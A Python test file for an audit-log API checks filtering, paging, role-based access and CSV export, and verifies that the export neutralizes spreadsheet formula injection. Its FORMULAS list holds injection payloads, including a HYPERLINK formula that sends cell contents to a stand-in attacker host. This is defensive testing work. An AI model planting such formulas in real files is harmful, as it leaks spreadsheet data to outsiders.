"""GET /api/audit and its CSV export."""

from __future__ import annotations

import csv
import io

from tests.support.identity import PASSWORD, Harness

AUDITOR = "auditor@example.org"


def test_filters_paging_and_csv(harness: Harness) -> None:
    harness.create_user(AUDITOR, role="auditor")
    staff_id = harness.create_user("staff@example.org")
    for attempt in range(3):
        harness.new_client().post(
            "/api/auth/login", json={"email": "staff@example.org", "password": f"bad {attempt}"}
        )
    harness.login(AUDITOR)
    failed = harness.client.get(
        "/api/audit", params={"entity_type": "users", "action": "u", "event": "login_failed"}
    ).json()
    assert [item["new_values"]["failed_logins"] for item in failed["items"]] == [3, 2, 1]
    assert {item["entity_id"] for item in failed["items"]} == {str(staff_id)}
    page = harness.client.get("/api/audit", params={"limit": 2}).json()
    assert len(page["items"]) == 2 and page["next_before_id"] == page["items"][-1]["id"]
    rest = harness.client.get(
        "/api/audit", params={"limit": 500, "before_id": page["next_before_id"]}
    ).json()
    ids = [item["id"] for item in page["items"] + rest["items"]]
    assert ids == sorted(ids, reverse=True) and rest["next_before_id"] is None
    everything = harness.client.get("/api/audit", params={"limit": 500}).json()["items"]
    assert len(ids) == len(everything)
    until = everything[-1]["changed_at"]
    harness.clock.advance(minutes=20)
    harness.new_client().post(
        "/api/auth/login", json={"email": "staff@example.org", "password": "late"}
    )
    recent = harness.client.get(
        "/api/audit", params={"since": harness.clock.now.isoformat()}
    ).json()["items"]
    assert len(recent) == 1 and recent[0]["event"] == "login_failed"
    early = harness.client.get("/api/audit", params={"until": until}).json()["items"]
    assert len(early) >= 1 and all(item["changed_at"] <= until for item in early)
    by_user = harness.client.get(
        "/api/audit", params={"changed_by": harness.user(AUDITOR).id}
    ).json()["items"]
    assert by_user and all(item["changed_by"] == harness.user(AUDITOR).id for item in by_user)
    bad = harness.client.get("/api/audit", params={"action": "x"})
    assert bad.status_code == 422 and bad.json()["error"] == "invalid request"

    exported = harness.client.get("/api/audit/export.csv", params={"event": "login_failed"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == 4 and rows[0]["action"] == "u" and rows[0]["entity_type"] == "users"
    assert PASSWORD not in exported.text


def test_staff_cannot_read_the_audit_log(harness: Harness) -> None:
    harness.create_user("staff@example.org")
    harness.login("staff@example.org")
    assert harness.client.get("/api/audit").status_code == 403
    assert harness.client.get("/api/audit/export.csv").status_code == 403


FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)"]


def test_csv_export_defuses_formulas_typed_by_anyone(harness: Harness) -> None:
    harness.create_user(AUDITOR, role="auditor")
    harness.create_user("staff@example.org")
    for agent in [*FORMULAS, "\t=1+1", "\r=1+1"]:
        stranger = harness.new_client()
        stranger.headers["User-Agent"] = agent  # an unauthenticated, failed login
        stranger.post("/api/auth/login", json={"email": "staff@example.org", "password": "bad"})
    harness.login(AUDITOR)
    exported = harness.client.get("/api/audit/export.csv", params={"event": "login_failed"})
    assert exported.status_code == 200
    agents = {row["user_agent"] for row in csv.DictReader(io.StringIO(exported.text))}
    assert {"'" + agent for agent in FORMULAS} <= agents
    assert not any(agent.startswith(("=", "+", "-", "@", "\t", "\r")) for agent in agents)
